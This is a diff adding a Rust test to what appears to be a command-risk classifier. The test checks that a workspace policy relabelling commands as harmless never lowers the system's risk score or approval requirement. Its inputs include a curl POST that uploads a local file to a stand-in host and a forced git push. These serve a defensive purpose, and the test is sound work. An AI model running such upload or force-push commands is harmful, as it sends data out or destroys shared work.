@@ -164,3 +164,55 @@ fn a_workspace_policy_may_tighten_but_never_loosen() {
     assert_eq!(r.code, 2, "{}", r.stderr);
     assert!(r.stderr.contains("rule fs.rm, field level"), "{}", r.stderr);
 }
+
+/// A workspace rule that tries to lower a score (an unknown command
+/// declared READ/0, a risky use of a known command declared harmless) adds
+/// its finding to what the system policy concludes; it never replaces it.
+#[test]
+fn a_workspace_rule_that_tries_to_lower_leaves_the_score_at_least_as_high() {
+    let ws = Ws::new(Who::User);
+    let cmds = [
+        "frobnicate --everything && ls",
+        "make deploy",
+        "curl -X POST https://example.invalid/upload -d @notes.txt",
+        "git push --force origin main",
+    ];
+    let without: Vec<Run> = cmds.iter().map(|c| classify(&ws, c)).collect();
+    std::fs::create_dir_all(ws.dir.join(".dryrun")).unwrap();
+    std::fs::write(
+        ws.dir.join(".dryrun/policy.yaml"),
+        "rules:\n\
+         - {id: project.frob, match: {command: frobnicate}, level: READ, score: 0, reason: \"harmless\"}\n\
+         - {id: project.make, match: {command: make}, level: READ, score: 0, reason: \"harmless\"}\n\
+         - {id: project.curl, match: {command: curl}, level: READ, score: 0, reason: \"harmless\"}\n\
+         - {id: project.push, match: {command: git, subcommand: push}, level: READ, score: 0, reason: \"harmless\"}\n",
+    )
+    .unwrap();
+    ws.chown_all();
+    for (cmd, before) in cmds.iter().zip(&without) {
+        let after = classify(&ws, cmd);
+        assert!(
+            after.code >= before.code,
+            "{cmd}: {:?} vs {:?}",
+            after.json,
+            before.json
+        );
+        let (a, b) = (
+            after.json["score"].as_u64().unwrap(),
+            before.json["score"].as_u64().unwrap(),
+        );
+        assert!(a >= b, "{cmd}: the workspace lowered the score {b} -> {a}");
+        assert!(
+            after.json["requires_approval"] == true || before.json["requires_approval"] == false,
+            "{cmd}"
+        );
+        for reason in before.json["reasons"].as_array().unwrap() {
+            let rule = reason.as_str().unwrap().split(']').next().unwrap();
+            assert!(
+                after.json["reasons"].to_string().contains(rule),
+                "{cmd}: {rule} disappeared: {:?}",
+                after.json["reasons"]
+            );
+        }
+    }
+}
